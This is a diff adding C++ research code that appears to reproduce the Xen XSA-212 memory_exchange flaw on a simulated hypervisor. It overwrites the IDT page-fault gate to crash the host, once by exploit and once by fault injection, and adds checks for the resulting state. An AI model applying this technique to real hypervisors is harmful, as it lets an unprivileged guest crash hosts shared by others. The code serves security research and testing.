@@ -1,0 +1,115 @@
+// XSA-212 PoC #1 ("xen: broken check in memory_exchange() permits PV guest
+// breakout", Project Zero issue 1184): aim the exchange's unvalidated
+// output pointer at the IDT's page-fault gate, then take a page fault. The
+// garbage MFN lands across the gate descriptor, clears its present bit, and
+// the next fault double-faults the host.
+#include "core/injector.hpp"
+#include "core/monitor.hpp"
+#include "xsa/detail.hpp"
+#include "xsa/exchange_primitive.hpp"
+#include "xsa/usecases.hpp"
+
+namespace ii::xsa {
+
+namespace {
+
+/// Linear address (as returned by `sidt` + offset arithmetic) of the
+/// page-fault gate descriptor.
+sim::Vaddr page_fault_gate(guest::VirtualPlatform& p) {
+  return sim::Vaddr{p.hv().sidt().raw() +
+                    sim::kPageFaultVector * sim::Idt::kGateBytes};
+}
+
+/// Deliberately touch an unmapped address so the hypervisor dispatches
+/// vector 14 through the (now corrupt) IDT.
+void trigger_page_fault(guest::GuestKernel& guest) {
+  std::uint8_t byte = 0;
+  (void)guest.read_virt(sim::Vaddr{0xDEAD000000ULL}, {&byte, 1});
+}
+
+}  // namespace
+
+core::IntrusionModel Xsa212Crash::model() const {
+  return core::IntrusionModel{
+      .source = core::TriggeringSource::UnprivilegedGuest,
+      .component = core::TargetComponent::MemoryManagement,
+      .interface = core::InteractionInterface::Hypercall,
+      .functionality =
+          core::AbusiveFunctionality::WriteUnauthorizedArbitraryMemory,
+      .erroneous_state = "IDT page-fault handler descriptor overwritten",
+  };
+}
+
+core::CaseOutcome Xsa212Crash::run_exploit(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  const sim::Vaddr target = page_fault_gate(p);
+  detail::note(out, guest, "sidt -> IDT gate 14 at " + detail::hex(target.raw()));
+
+  ExchangeWritePrimitive prim{guest};
+  out.rc = prim.write_mfn_at(target);
+  if (out.rc != hv::kOk) {
+    detail::note(out, guest,
+                 std::string{"memory_exchange failed: "} +
+                     hv::errno_name(out.rc) + " (vulnerability fixed)");
+    return out;
+  }
+  detail::note(out, guest,
+               "exchange output written over IDT gate (mfn " +
+                   detail::hex(prim.last_mfn()) + ")");
+  trigger_page_fault(guest);
+  detail::note(out, guest, "page fault triggered");
+  out.completed = true;
+  return out;
+}
+
+core::CaseOutcome Xsa212Crash::run_injection(guest::VirtualPlatform& p) {
+  core::CaseOutcome out;
+  guest::GuestKernel& guest = p.guest(0);
+  const sim::Vaddr target = page_fault_gate(p);
+  detail::note(out, guest,
+               "injecting IDT gate overwrite at " + detail::hex(target.raw()));
+
+  core::ArbitraryAccessInjector injector{guest};
+  // Any value with a clear byte 5 un-presents the gate, same as the
+  // exploit's stray MFN; zero matches the exploit's observable exactly.
+  const bool ok = injector.write_u64(target.raw(), 0,
+                                     core::AddressMode::Linear) &&
+                  injector.write_u64(target.raw() + 8, 0,
+                                     core::AddressMode::Linear);
+  out.rc = injector.last_rc();
+  if (!ok) {
+    detail::note(out, guest, std::string{"arbitrary_access failed: "} +
+                                 hv::errno_name(out.rc));
+    return out;
+  }
+  trigger_page_fault(guest);
+  detail::note(out, guest, "page fault triggered");
+  out.completed = true;
+  return out;
+}
+
+bool Xsa212Crash::erroneous_state_present(guest::VirtualPlatform& p) const {
+  const sim::IdtGate gate = p.hv().idt().read(sim::kPageFaultVector);
+  return gate.handler != p.hv().default_handler(sim::kPageFaultVector) ||
+         !gate.well_formed();
+}
+
+bool Xsa212Crash::security_violation(guest::VirtualPlatform& p) const {
+  return p.hv().crashed();
+}
+
+std::string Xsa212Crash::erroneous_state_description(
+    guest::VirtualPlatform& p) const {
+  const sim::IdtGate gate = p.hv().idt().read(sim::kPageFaultVector);
+  if (gate.handler == p.hv().default_handler(sim::kPageFaultVector) &&
+      gate.well_formed()) {
+    return {};
+  }
+  // The descriptor bytes differ run to run (the exploit scribbles an MFN,
+  // the script writes zeros); what both runs share — and what §VI-C audits
+  // — is that the gate is no longer a valid page-fault handler.
+  return "idt[14]: page-fault gate overwritten, descriptor no longer valid";
+}
+
+}  // namespace ii::xsa
